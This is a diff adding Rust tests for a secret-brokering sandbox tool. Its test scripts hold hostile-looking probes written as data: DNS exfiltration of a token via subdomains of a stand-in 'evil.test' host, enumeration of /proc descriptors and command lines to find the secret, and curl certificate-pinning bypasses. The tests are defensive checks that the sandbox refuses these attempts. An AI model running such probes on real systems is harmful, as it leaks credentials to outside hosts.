@@ -1,0 +1,362 @@
+//! Brokered secrets with more clients, more sandboxes and more ways to get at a value.
+
+use std::io::{BufRead as _, BufReader, Write as _};
+use std::path::Path;
+use std::process::{Child, Command, Stdio};
+
+use bailiwick_testkit::skip;
+use serde_json::{Value, json};
+
+use super::secrets::{GRANT, VALUE, World, below, found_in, text, uses, windows};
+use super::world::{Stage, in_world, test_name, users};
+use super::{NAMES, WORLD, servers};
+use crate::escape::{User, as_user};
+
+#[test]
+fn curl_uses_a_secret_over_http_2() {
+    if in_world(test_name!()) {
+        let ask = "/usr/bin/curl -sS --http2 -w '%{stderr}version %{http_version}\\n' \
+                   -H \"Authorization: Bearer $TOKEN\" https://good.test/x 2> /tmp/said; grep -q 'version 2' /tmp/said || cat /tmp/said";
+        let caps = ["exec:spawn:/usr/bin/curl", "exec:spawn:/usr/bin/grep", "exec:spawn:/usr/bin/cat"];
+        uses(&["/usr/bin/bash", "-c", ask], &caps);
+    }
+}
+
+#[test]
+fn node_http2_uses_a_secret_that_it_does_not_have() {
+    if in_world(test_name!()) {
+        let ask = "const c = require('http2').connect('https://good.test'); \
+                   const r = c.request({':path': '/x', authorization: 'Bearer ' + process.env.TOKEN}); \
+                   let t = ''; r.on('data', d => t += d); r.on('end', () => { process.stdout.write(t); c.close(); }); r.end()";
+        uses(&["/usr/bin/node", "-e", ask], &[]);
+    }
+}
+
+#[test]
+fn python_httpx_uses_a_secret_over_http_2() {
+    if !in_world(test_name!()) {
+        return;
+    }
+    let names = ["httpx", "httpcore", "h2", "hpack", "hyperframe", "h11", "anyio", "idna", "certifi"];
+    let packages =
+        super::clients::packages().filter(|place| names.iter().all(|name| place.join(name).is_dir()));
+    let Some(packages) = packages else { return skip("no `httpx` in the cache that scripts/test fills") };
+    let directory = tempfile::tempdir_in("/var/tmp").unwrap();
+    std::fs::set_permissions(directory.path(), std::os::unix::fs::PermissionsExt::from_mode(0o755)).unwrap();
+    for name in names {
+        let copied =
+            Command::new("cp").arg("-r").arg(packages.join(name)).arg(directory.path()).status().unwrap();
+        assert!(copied.success(), "{name}");
+    }
+    drop(Command::new("cp").arg(packages.join("typing_extensions.py")).arg(directory.path()).status());
+    let ask = "import os, sys, ssl; sys.path.insert(0, sys.argv[1]); import httpx; \
+               c = httpx.Client(http2=True, verify=ssl.create_default_context()); \
+               r = c.get('https://good.test/x', headers={'Authorization': 'Bearer ' + os.environ['TOKEN']}); \
+               assert r.http_version == 'HTTP/2', r.http_version; sys.stdout.write(r.text)";
+    let own = directory.path().display().to_string();
+    uses(&["/usr/bin/python3", "-c", ask, &own], &[&format!("fs:read:{own}/**")]);
+}
+
+/// What comes of a script inside, and what was told of it.
+fn said(world: &World, stage: &Stage, caps: &[&str], script: &str) -> (String, String) {
+    let mut run = world.run(stage, caps, &["--"]);
+    let output = run.args(["/usr/bin/bash", "-c", script]).output().unwrap();
+    (text(&output.stdout), text(&output.stderr))
+}
+
+#[test]
+fn a_client_that_pins_or_ignores_the_list_is_refused_with_the_reason() {
+    if !in_world(test_name!()) {
+        return;
+    }
+    let world = World::new();
+    for user in users() {
+        let stage = Stage::new(*user);
+        // A list of its own that has the real server's authority and not the sandbox's.
+        let own = stage.path("own.pem");
+        let shown = format!("fs:read:{}", own.display());
+        let before = world.good.count();
+        for option in [format!("--cacert {}", own.display()), "-k --pinnedpubkey sha256//AAAA".to_owned()] {
+            let script = format!(
+                "/usr/bin/curl -sS {option} -H \"Authorization: Bearer $TOKEN\" https://good.test/x; echo $?"
+            );
+            let (out, log) = said(&world, &stage, &["exec:spawn:/usr/bin/curl", &shown], &script);
+            assert!(
+                !out.contains("the answer") && !out.ends_with("\n0\n") && out.trim() != "0",
+                "{user:?} {out} {log}"
+            );
+            assert!(
+                log.contains("does not trust the sandbox's certificate") || option.starts_with("-k"),
+                "{log}"
+            );
+        }
+        assert_eq!(world.good.count(), before, "{user:?}");
+    }
+}
+
+#[test]
+fn a_placeholder_in_a_name_is_refused_and_asked_of_no_server() {
+    if !in_world(test_name!()) {
+        return;
+    }
+    let world = World::new();
+    let names = servers::dns(NAMES, |_, _| vec!["93.184.216.66"]);
+    for user in users() {
+        let stage = Stage::new(*user);
+        let caps = ["net:connect:*.evil.test", "exec:spawn:/usr/bin/getent", "exec:spawn:/usr/bin/tr"];
+        let script = "getent ahostsv4 plain.evil.test > /dev/null && echo found; getent ahostsv4 $TOKEN.evil.test; \
+                      getent ahostsv4 $(echo $TOKEN | tr a-z A-Z | tr _ -).evil.test; \
+                      getent ahostsv4 ${TOKEN:0:20}.${TOKEN:20}.evil.test; echo end";
+        let (out, log) = said(&world, &stage, &caps, script);
+        assert!(out.starts_with("found\n") && out.ends_with("end\n"), "{user:?} {out} {log}");
+        assert!(log.contains("the placeholder of a secret was sent where its value is not used"), "{log}");
+    }
+    for asked in names.all() {
+        assert!(asked.len() < 30 || asked.contains('.'), "{asked}");
+        assert!(!asked.split('.').any(|label| label.len() == VALUE.len()), "{asked}");
+    }
+}
+
+#[test]
+fn nothing_of_what_holds_secrets_is_reachable_from_inside() {
+    if !in_world(test_name!()) {
+        return;
+    }
+    let world = World::new();
+    for user in users() {
+        let stage = Stage::new(*user);
+        let caps = ["exec:spawn:/usr/bin/ls", "exec:spawn:/usr/bin/cat", "exec:spawn:/usr/bin/tr"];
+        let script = "ls -l /proc/self/fd /proc/1/fd 2>&1; for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; done; \
+                      cat /proc/net/unix 2>&1; env";
+        let (out, log) = said(&world, &stage, &caps, script);
+        assert!(out.contains("TOKEN="), "{out} {log}");
+        assert!(!out.contains("socket:") && !out.contains("hold") && !out.contains(VALUE), "{user:?} {out}");
+    }
+}
+
+/// `bailiwick serve` with a secret, and what it answers.
+struct Served(Child, BufReader<std::process::ChildStdout>);
+
+impl Served {
+    fn new(world: &World, stage: &Stage) -> Self {
+        let own = stage.path("own.pem");
+        std::fs::write(&own, &world.authority.pem).unwrap();
+        let mut command = as_user(stage.user, stage.path("bailiwick"));
+        command.args(["serve", "--cap", GRANT, "--secret", "TOKEN=env:THE_VALUE"]);
+        command.args([
+            "--cap",
+            "exec:spawn:/usr/bin/curl",
+            "--cap",
+            "exec:spawn:/usr/bin/bash",
+            "--cap",
+            "exec:spawn:/usr/bin/sleep",
+        ]);
+        command.args(["--hosts", "good.test=93.184.216.34"]).arg("--journal").arg(stage.directory("journal"));
+        std::fs::set_permissions(stage.path("journal"), std::os::unix::fs::PermissionsExt::from_mode(0o700))
+            .unwrap();
+        if stage.user == User::Plain {
+            std::os::unix::fs::chown(stage.path("journal"), Some(65534), Some(65534)).unwrap();
+        }
+        command
+            .env_clear()
+            .env("PATH", "/usr/bin:/bin")
+            .env("HOME", stage.path(""))
+            .env("SSL_CERT_FILE", own);
+        command.env("THE_VALUE", VALUE).env("COPY", format!("x{VALUE}x")).current_dir(stage.path(""));
+        let mut child =
+            command.stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::null()).spawn().unwrap();
+        let output = BufReader::new(child.stdout.take().unwrap());
+        let mut served = Self(child, output);
+        served.ask(json!({ "jsonrpc": "2.0", "id": 0, "method": "initialize", "params": {} }));
+        served
+    }
+
+    fn say(&mut self, message: &Value) {
+        writeln!(self.0.stdin.as_mut().unwrap(), "{message}").unwrap();
+    }
+
+    fn ask(&mut self, message: Value) -> String {
+        self.say(&message);
+        let mut line = String::new();
+        self.1.read_line(&mut line).unwrap();
+        line
+    }
+
+    fn bash(id: u64, script: &str) -> Value {
+        let arguments = json!({ "program": "/usr/bin/bash", "args": ["-c", script] });
+        let params = json!({ "name": "shell", "arguments": arguments });
+        json!({ "jsonrpc": "2.0", "id": id, "method": "tools/call", "params": params })
+    }
+}
+
+impl Drop for Served {
+    fn drop(&mut self) {
+        drop(self.0.kill());
+        drop(self.0.wait());
+    }
+}
+
+const ASK: &str =
+    "/usr/bin/curl -sS -H \"Authorization: Bearer $TOKEN\" https://good.test/x; echo; echo \"$TOKEN\"";
+
+#[test]
+fn each_call_of_serve_uses_a_secret_and_no_sandbox_of_it_has_the_value() {
+    if !in_world(test_name!()) {
+        return;
+    }
+    let (world, windows) = (World::new(), windows());
+    for user in users() {
+        let stage = Stage::new(*user);
+        let mut served = Served::new(&world, &stage);
+        let before = world.good.count();
+        let mut placeholders = std::collections::BTreeSet::new();
+        for id in 1..4 {
+            let answer = served.ask(Served::bash(id, ASK));
+            assert!(answer.contains("the answer") && !answer.contains(VALUE), "{user:?} {answer}");
+            let answer: Value = serde_json::from_str(&answer).unwrap();
+            let said =
+                answer["result"]["structuredContent"]["stdout"].as_str().unwrap_or_default().to_owned();
+            placeholders.insert(said.lines().last().unwrap_or_default().to_owned());
+        }
+        assert_eq!(placeholders.len(), 3, "fresh for each sandbox: {placeholders:?}");
+        let heard = world.good.all()[before..].join("\n");
+        assert!(heard.contains(VALUE), "{heard}");
+        served.say(&Served::bash(9, &format!("{ASK}; /usr/bin/sleep 30")));
+        let number = |pid: u32| std::fs::read_link(format!("/proc/{pid}/ns/pid")).ok();
+        let own = number(served.0.id());
+        let mut inside = Vec::new();
+        for _ in 0..200 {
+            inside = below(served.0.id()).into_iter().filter(|pid| number(*pid) != own).collect();
+            let is_asleep = |pid: &u32| {
+                std::fs::read_to_string(format!("/proc/{pid}/comm")).is_ok_and(|name| name == "sleep\n")
+            };
+            if inside.iter().any(is_asleep) {
+                break;
+            }
+            std::thread::sleep(std::time::Duration::from_millis(50));
+        }
+        if rustix::process::getuid().is_root() {
+            let found: Vec<(u32, usize)> =
+                inside.iter().map(|pid| (*pid, found_in(*pid, &windows))).collect();
+            assert!(found.len() >= 3 && found.iter().all(|(_, count)| *count == 0), "{user:?} {found:?}");
+            assert_eq!(found_in(served.0.id(), &windows), 0, "nor has the server itself");
+        }
+    }
+}
+
+#[test]
+fn a_secret_check_says_which_are_usable_and_never_what_they_are() {
+    let home = tempfile::tempdir().unwrap();
+    let config = home.path().join(".config/bailiwick");
+    std::fs::create_dir_all(&config).unwrap();
+    let file = home.path().join("value");
+    std::fs::write(&file, VALUE).unwrap();
+    let settings = format!(
+        "[secrets]\nGOOD = 'file:{}'\n[secrets.NARROW]\nsource = 'env:NOT_SET'\nhosts = ['api.test']\n",
+        file.display()
+    );
+    std::fs::write(config.join("config.toml"), settings).unwrap();
+    let run = |words: &[&str]| {
+        let mut command = Command::new(env!("CARGO_BIN_EXE_bailiwick"));
+        command
+            .args(words)
+            .env_clear()
+            .env("HOME", home.path())
+            .env("PATH", "/usr/bin:/bin")
+            .env("MINE", VALUE);
+        let output = command.output().unwrap();
+        let said = text(&output.stdout) + &text(&output.stderr);
+        assert!(!said.contains(VALUE) && !said.contains(&VALUE[..8]), "{words:?} {said}");
+        (output.status.code().unwrap(), said)
+    };
+    let (code, said) = run(&["secret", "list"]);
+    assert!(code == 0 && said.contains("GOOD") && said.contains("api.test"), "{said}");
+    let (code, said) = run(&["secret", "check", "--secret", "MINE=env:MINE"]);
+    assert!(code == 1 && said.contains("`env:NOT_SET` was tried") && said.contains("MINE"), "{said}");
+    let (_, said) = run(&["secret", "check", "--format", "json"]);
+    let answer: Value = serde_json::from_str(&said).unwrap();
+    let usable: Vec<bool> =
+        answer["secrets"].as_array().unwrap().iter().map(|one| one["usable"] == true).collect();
+    assert_eq!(usable, [true, false], "{said}");
+    let (code, said) = run(&["secret", "check", "--secret", &format!("WRONG={VALUE}")]);
+    assert!(code == 2 && said.contains("env:VARIABLE"), "{said}");
+}
+
+/// A server whose tools ask for the answer with the secret, in whichever process they are.
+const SERVER: &str = r#"
+while IFS= read -r line; do
+  id=${line#*\"id\":}; id=${id%%,*}
+  case "$line" in
+    *'"initialize"'*) printf '{"jsonrpc":"2.0","id":%s,"result":{"protocolVersion":"2025-11-25","capabilities":{"tools":{}},"serverInfo":{"name":"s","version":"1"}}}\n' "$id";;
+    *'"tools/list"'*) printf '{"jsonrpc":"2.0","id":%s,"result":{"tools":[{"name":"one","inputSchema":{"type":"object"}},{"name":"two","inputSchema":{"type":"object"}}]}}\n' "$id";;
+    *'"tools/call"'*) printf '{"jsonrpc":"2.0","id":%s,"result":{"content":[{"type":"text","text":"%s"}]}}\n' "$id" "$(/usr/bin/curl -sS -H "Authorization: Bearer $TOKEN" https://good.test/x)";;
+  esac
+done
+"#;
+
+#[test]
+fn tools_in_processes_of_their_own_use_a_secret_each() {
+    if !in_world(test_name!()) {
+        return;
+    }
+    let world = World::new();
+    let stage = Stage::new(users()[0]);
+    let own = stage.path("own.pem");
+    std::fs::write(&own, &world.authority.pem).unwrap();
+    let manifest = stage.path("m.toml");
+    let tool = |name: &str, more: &str| {
+        format!(
+            "[[tools]]\nname = '{name}'\nstate = 'none'\ncapabilities = ['{GRANT}', 'exec:spawn:/usr/bin/curl'{more}]\n"
+        )
+    };
+    let lines = format!(
+        "name = 's'\nversion = '1'\n{}{}",
+        tool("one", ""),
+        tool("two", ", 'exec:spawn:/usr/bin/true'")
+    );
+    std::fs::write(&manifest, lines).unwrap();
+    let mut command = as_user(users()[0], stage.path("bailiwick"));
+    command.args([
+        "wrap",
+        "--isolate",
+        "tool",
+        "--no-journal",
+        "--secret",
+        "TOKEN=env:THE_VALUE",
+        "--manifest",
+    ]);
+    command.arg(&manifest).args(["--hosts", "good.test=93.184.216.34", "--", "/usr/bin/bash", "-c", SERVER]);
+    command.env_clear().env("PATH", "/usr/bin:/bin").env("HOME", stage.path("")).env("SSL_CERT_FILE", own);
+    command.env("THE_VALUE", VALUE).stdin(Stdio::piped()).stdout(Stdio::piped()).stderr(Stdio::piped());
+    let mut child = command.spawn().unwrap();
+    let mut output = BufReader::new(child.stdout.take().unwrap());
+    let mut ask = |id: u64, method: &str, params: Value| {
+        let message = json!({ "jsonrpc": "2.0", "id": id, "method": method, "params": params });
+        writeln!(child.stdin.as_mut().unwrap(), "{message}").unwrap();
+        loop {
+            let mut line = String::new();
+            if output.read_line(&mut line).unwrap() == 0 {
+                return "the end".to_owned();
+            }
+            if serde_json::from_str::<Value>(&line).unwrap()["id"] == id {
+                return line;
+            }
+        }
+    };
+    let client = json!({ "name": "c", "version": "1" });
+    let opened = ask(
+        0,
+        "initialize",
+        json!({ "protocolVersion": "2025-11-25", "capabilities": {}, "clientInfo": client }),
+    );
+    assert!(opened.contains("serverInfo"), "{opened}");
+    for (id, name) in [(1, "one"), (2, "two"), (3, "one")] {
+        let answer = ask(id, "tools/call", json!({ "name": name, "arguments": {} }));
+        assert!(answer.contains("the answer"), "{name}: {answer}");
+    }
+    drop(child.stdin.take());
+    drop(child.kill());
+    let errors = text(&child.wait_with_output().unwrap().stderr);
+    assert!(world.good.all().join("\n").matches(VALUE).count() >= 3, "{errors}");
+    assert!(Path::new(&manifest).exists() && !errors.contains(VALUE), "{errors}");
+}
